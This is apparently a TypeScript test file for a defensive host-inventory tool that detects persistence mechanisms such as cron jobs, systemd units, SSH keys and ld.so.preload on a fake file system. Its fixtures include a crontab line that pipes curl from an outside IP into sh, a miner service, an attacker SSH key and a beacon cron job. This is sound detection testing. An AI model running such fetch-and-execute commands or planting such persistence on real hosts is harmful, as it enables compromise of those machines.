/** Inventory on a file system tree built for the test (packages, persistence), with this machine's real processes and sockets. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, statSync, symlinkSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import type { PersistencePoint } from '@firebreak/core';
import {
  collectInventory,
  collectPersistence,
  inventoryDigest,
  parseDpkgStatus,
  parseRpmList,
  persistenceChanges,
} from '../src/host/inventory.js';
import { ExecutableHasher, listProcesses, listSockets } from '../src/host/proc.js';
import { sha256Of } from './support/host.js';

const work = mkdtempSync(join(tmpdir(), 'firebreak-inventory-'));
after(() => rmSync(work, { recursive: true, force: true }));

const DPKG_STATUS = `Package: openssh-server
Status: install ok installed
Priority: optional
Section: net
Architecture: amd64
Version: 1:9.2p1-2+deb12u3
Description: secure shell (SSH) server, for secure access from remote machines
 This is the portable version of OpenSSH, a free implementation of
 the Secure Shell protocol as specified by the IETF secsh working
 group.

Package: telnetd
Status: deinstall ok config-files
Architecture: amd64
Version: 0.17+2.4-2
Description: removed; its configuration files remain

Package: libc6
Status: install ok installed
Architecture: amd64
Multi-Arch: same
Version: 2.36-9+deb12u4
Description: GNU C Library: Shared libraries

Package: half
Status: install reinstreq half-installed
Version: 1.0
`;

/** A file under the tree, its directories made. */
function put(root: string, path: string, content: string): string {
  const file = join(root, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, content);
  return file;
}

/** A host's file system in miniature: accounts, packages, and a file at each kind of persistence point. */
function fakeRoot(name: string): string {
  const root = join(work, name);
  put(
    root,
    'etc/passwd',
    'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n',
  );
  put(root, 'var/lib/dpkg/status', DPKG_STATUS);
  put(root, 'etc/crontab', 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
  put(root, 'etc/cron.d/backup', '0 3 * * * root /usr/local/bin/backup\n');
  put(root, 'etc/cron.daily/logrotate', '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n');
  put(root, 'var/spool/cron/crontabs/alice', '*/5 * * * * curl -s http://203.0.113.9/x | sh\n');
  put(root, 'home/alice/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAD alice@laptop\n');
  put(root, 'home/alice/.ssh/known_hosts', 'not a persistence point\n');
  put(root, 'root/.ssh/authorized_keys2', 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB root@old\n');
  put(root, 'etc/ld.so.preload', '/usr/lib/libevil.so\n');
  put(root, 'etc/profile.d/proxy.sh', 'export http_proxy=http://proxy:3128\n');
  put(root, 'home/alice/.bashrc', 'alias ls="ls --color"\n');
  put(root, 'etc/rc.local', '#!/bin/sh\nexit 0\n');
  put(root, 'usr/lib/systemd/system/ssh.service', '[Service]\nExecStart=/usr/sbin/sshd -D\n');
  put(root, 'etc/systemd/system/updater.service', '[Service]\nExecStart=/opt/vendor/update\n');
  mkdirSync(join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  symlinkSync('../updater.service', join(root, 'etc/systemd/system/multi-user.target.wants/updater.service'));
  symlinkSync('../missing.service', join(root, 'etc/systemd/system/multi-user.target.wants/missing.service'));
  put(root, 'home/alice/.config/systemd/user/miner.service', '[Service]\nExecStart=/home/alice/.cache/xmr\n');
  // Merged /usr: /lib is /usr/lib, whose units must be listed once.
  symlinkSync('usr/lib', join(root, 'lib'));
  return root;
}

test('persistence points: each kind found under the tree, hashed, named by the host path, each file once', async () => {
  const root = fakeRoot('persistence');
  const points = await collectPersistence({ root, hasher: new ExecutableHasher() });
  const byPath = new Map(points.map((p) => [p.path, p]));
  assert.deepEqual(
    points.map((p) => [p.kind, p.path]),
    [
      ['cron', '/etc/cron.d/backup'],
      ['cron', '/etc/cron.daily/logrotate'],
      ['cron', '/etc/crontab'],
      ['ld.so.preload', '/etc/ld.so.preload'],
      ['shell_rc', '/etc/profile.d/proxy.sh'],
      ['rc_local', '/etc/rc.local'],
      ['systemd', '/etc/systemd/system/multi-user.target.wants/updater.service'],
      ['systemd', '/etc/systemd/system/updater.service'],
      ['shell_rc', '/home/alice/.bashrc'],
      ['systemd', '/home/alice/.config/systemd/user/miner.service'],
      ['authorized_keys', '/home/alice/.ssh/authorized_keys'],
      ['systemd', '/lib/systemd/system/ssh.service'],
      ['authorized_keys', '/root/.ssh/authorized_keys2'],
      ['cron', '/var/spool/cron/crontabs/alice'],
    ],
  );
  const crontab = byPath.get('/var/spool/cron/crontabs/alice')!;
  const file = join(root, 'var/spool/cron/crontabs/alice');
  assert.equal(crontab.sha256, sha256Of(file));
  assert.equal(crontab.mtime, Math.floor(statSync(file).mtimeMs));
  // An enabling link counts as the unit it leads to.
  assert.equal(
    byPath.get('/etc/systemd/system/multi-user.target.wants/updater.service')?.sha256,
    byPath.get('/etc/systemd/system/updater.service')?.sha256,
  );
});

test('packages: the installed ones of dpkg status (continuation lines, other states left out); rpm query output', async () => {
  assert.deepEqual(parseDpkgStatus(DPKG_STATUS), [
    { name: 'openssh-server', version: '1:9.2p1-2+deb12u3', manager: 'dpkg' },
    { name: 'libc6', version: '2.36-9+deb12u4', manager: 'dpkg' },
  ]);
  assert.deepEqual(parseRpmList('bash\t5.1.8-9.el9\nopenssl-libs\t1:3.0.7-27.el9\n'), [
    { name: 'bash', version: '5.1.8-9.el9', manager: 'rpm' },
    { name: 'openssl-libs', version: '1:3.0.7-27.el9', manager: 'rpm' },
  ]);
});

test(
  'collectInventory: packages and persistence of the tree, running executables and listeners of this machine',
  { skip: process.platform !== 'linux' },
  async () => {
    const root = fakeRoot('inventory');
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    try {
      const inventory = await collectInventory({ hasher: new ExecutableHasher(), root });
      assert.deepEqual(
        inventory.packages.map((p) => p.name),
        ['libc6', 'openssh-server'],
      );
      const node = realpathSync(process.execPath);
      const executable = inventory.executables.find((e) => e.path === node && e.pids.includes(process.pid));
      assert.equal(executable?.sha256, sha256Of(node));
      assert.deepEqual(
        inventory.listening.find((l) => l.port === port),
        { protocol: 'tcp', address: '127.0.0.1', port, pid: process.pid, image: node },
      );
      assert.ok(inventory.persistence.some((p) => p.path === '/etc/ld.so.preload'));
      assert.ok(Math.abs(inventory.collectedAt - Date.now()) < 60_000);
    } finally {
      server.close();
    }
  },
);

test('inventoryDigest changes with the host, not with the time or the pids', { skip: process.platform !== 'linux' }, async () => {
  const root = fakeRoot('digest');
  const hasher = new ExecutableHasher();
  // The same processes and sockets each time: the machine's own come and go while the test runs.
  const processes = await listProcesses({ hasher });
  const sockets = await listSockets();
  const first = await collectInventory({ hasher, root, processes, sockets });
  const second = await collectInventory({ hasher, root, processes, sockets });
  assert.equal(inventoryDigest(second), inventoryDigest(first));
  const renumbered = {
    ...second,
    collectedAt: 0,
    executables: second.executables.map((e) => ({ ...e, pids: e.pids.map((pid) => pid + 1) })),
  };
  assert.equal(inventoryDigest(renumbered), inventoryDigest(first), 'pids and the collection time do not count');
  put(root, 'etc/cron.d/backup', '0 4 * * * root /usr/local/bin/backup\n');
  const changed = await collectInventory({ hasher, root, processes, sockets });
  assert.notEqual(inventoryDigest(changed), inventoryDigest(first));
  const withPackage = { ...first, packages: [...first.packages, { name: 'netcat', version: '1.0', manager: 'dpkg' as const }] };
  assert.notEqual(inventoryDigest(withPackage), inventoryDigest(first));
});

test('persistenceChanges: added, changed in content, removed; a touch alone is no change', async () => {
  const root = fakeRoot('changes');
  const hasher = new ExecutableHasher();
  const before = await collectPersistence({ root, hasher });
  put(root, 'home/alice/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAD alice@laptop\nssh-ed25519 AAAAattacker evil@c2\n');
  put(root, 'etc/cron.d/zz-persist', '* * * * * root /tmp/.x/beacon\n');
  unlinkSync(join(root, 'etc/rc.local'));
  const touched = join(root, 'etc/crontab');
  utimesSync(touched, new Date(), new Date(Date.now() + 60_000));
  const after = await collectPersistence({ root, hasher });
  const changes = persistenceChanges(before, after);
  const paths = (points: PersistencePoint[]): string[] => points.map((p) => p.path);
  assert.deepEqual(paths(changes.added), ['/etc/cron.d/zz-persist']);
  assert.deepEqual(paths(changes.changed), ['/home/alice/.ssh/authorized_keys']);
  assert.equal(changes.changed[0]?.sha256, sha256Of(join(root, 'home/alice/.ssh/authorized_keys')), 'the point as it is now');
  assert.deepEqual(paths(changes.removed), ['/etc/rc.local']);
  assert.deepEqual(persistenceChanges(after, after), { added: [], changed: [], removed: [] });
});
